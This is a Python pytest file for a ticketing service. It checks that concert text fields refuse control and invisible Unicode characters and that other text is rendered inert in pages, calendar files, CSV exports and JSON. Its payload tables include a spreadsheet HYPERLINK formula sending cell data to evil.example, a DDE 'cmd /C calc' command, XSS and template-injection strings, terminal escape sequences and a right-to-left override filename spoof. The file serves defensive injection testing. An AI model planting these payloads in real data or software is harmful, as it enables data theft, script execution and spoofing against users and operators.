"""Texts that an operator is tricked into typing: none does harm in a page or a file.

What is refused when it enters, and what is accepted and must be harmless wherever it leaves.
"""

import csv
import re
from html.parser import HTMLParser
from io import StringIO
from typing import Any

import httpx2
import pytest
from icalendar import Calendar

from testkit.desk import BASE, Concert, Desk, Fan, Json, starts_at
from testkit.serving import OPERATOR_KEY

REFUSED = {
    "line_end": "An evening\nX-Forged: 1",
    "carriage_return": "An evening\r",
    "escape_sequence": "\x1b]0;owned\x07\x1b[2J",
    "c1_escape": "\x9b2J",
    "delete": "a\x7fb",
    "null": "a\x00b",
    "right_to_left_override": "gpj.\u202eexe",
    "isolate": "a\u2067b",
    "line_separator": "a\u2028b",
    "noncharacter": "a\uffffb",
    "zero_width": "\u200b\u200c\u2060\ufeff",
    "hangul_fillers": "\u3164\u115f\uffa0",
    "tags": "\U000e0041\U000e0042",
    "variation_selectors": "\ufe0f\ufe0e",
    "private_use": "\ue000\U000f0000",
    "musical_format": "\U0001d173",
}
ACCEPTED = {
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "command": "@SUM(1+1)*cmd|' /C calc'!A0",
    "minus": "-2+3",
    "markup": "\"'><script>alert(1)</script><svg onload=alert(1)>",
    "template": "{{ 7*7 }}{% raw %}${7*7}",
    "calendar": "a;b,c\\nSTATUS:CANCELLED\\",
    "family": "👩‍👩‍👧 می‌خواهم 뷁",
}
CONTROLS = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


class _Tags(HTMLParser):
    """The tags of a page with their attributes."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: Any) -> None:
        self.found.append((tag, dict(attrs)))


def concert_with(text: str) -> Json:
    """Returns a new concert with a text wherever one is stored."""
    section = {"name": text, "price": 50_000, "seats": 4}
    return {
        "title": text,
        "artist": text,
        "venue": text,
        "waiting_room": {"policy": {"kind": "open"}},
        "shows": [{"starts_at": starts_at(), "sections": [section]}],
    }


@pytest.mark.parametrize("text", REFUSED.values(), ids=REFUSED)
async def test_text_is_refused_where_it_enters(desk: Desk, text: str) -> None:
    """As a title, an artist, a venue, a section or a gate; also when a concert is changed."""
    harmless, hostile = concert_with("Fine"), concert_with(text)
    sections = {"shows": hostile["shows"]}
    for change in ({name: text} for name in ("title", "artist", "venue")):
        made = await desk.operate("POST", "/admin/concerts", json={**harmless, **change})
        assert made.status_code == 422, made.text
    made = await desk.operate("POST", "/admin/concerts", json={**harmless, **sections})
    assert made.json()["errors"][0]["pointer"] == "/shows/0/sections/0/name"
    path = f"/admin/concerts/{(await desk.concert()).concert_id}"
    assert (await desk.operate("PATCH", path, json={"title": text})).status_code == 422
    scan = {"code": "x", "gate": text}
    done = await desk.operate("POST", "/admin/tickets/check-ins", json=scan)
    assert done.json()["errors"][0]["pointer"] == "/gate"


async def buy(desk: Desk, text: str) -> tuple[Fan, Concert, str]:
    """Buys a seat of a concert with a text; returns the path of the ticket too."""
    made = (await desk.operate("POST", "/admin/concerts", json=concert_with(text))).json()
    concert = Concert(made["concert_id"], made["shows"])
    fan = await desk.buyer(concert, 50_000)
    payment = await fan.pay(await fan.hold(concert, 1))
    ticket = payment["tickets"][0]
    scan = {"code": ticket["code"], "gate": text}
    assert (await desk.operate("POST", "/admin/tickets/check-ins", json=scan)).is_success
    return fan, concert, f"{BASE}/tickets/{ticket['ticket_id']}"


@pytest.mark.parametrize("text", ACCEPTED.values(), ids=ACCEPTED)
async def test_text_is_harmless_where_it_leaves(desk: Desk, text: str) -> None:
    """In pages, calendar files, spreadsheets and JSON: the same text, and nothing but text."""
    fan, concert, ticket = await buy(desk, text)

    async def get(path: str, key: str = fan.user_key, **headers: str) -> httpx2.Response:
        credential = {"Authorization": f"Bearer {key}"} if path.startswith(BASE) else {}
        response = await desk.http.get(path, headers={**credential, **headers})
        assert response.status_code == 200, (path, response.text)
        assert not CONTROLS.search(response.text), path
        return response

    for path in ("/", f"/concerts/{concert.concert_id}", f"{ticket}/print"):
        page = await get(path)
        assert "<script>alert" not in page.text
        for tag, attributes in _Tags(page.text).found:
            assert not {name for name in attributes if name.startswith("on")}, (path, tag)
    (event,) = Calendar.from_ical((await get(f"{ticket}/calendar.ics")).content).walk("VEVENT")
    assert (event["SUMMARY"], event["LOCATION"]) == (text, text)
    assert event["STATUS"] == "CONFIRMED"
    order = f"{BASE}/admin/concerts/{concert.concert_id}/order"
    exported = await get(order, OPERATOR_KEY, Accept="text/csv")
    cells = [cell for row in csv.reader(StringIO(exported.text)) for cell in row]
    assert len(cells) == 14
    assert [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
    shown = (await get(ticket)).json()
    assert [shown[name] for name in ("title", "venue", "section")] == [text] * 3
    await get(f"{BASE}/users/me/export")
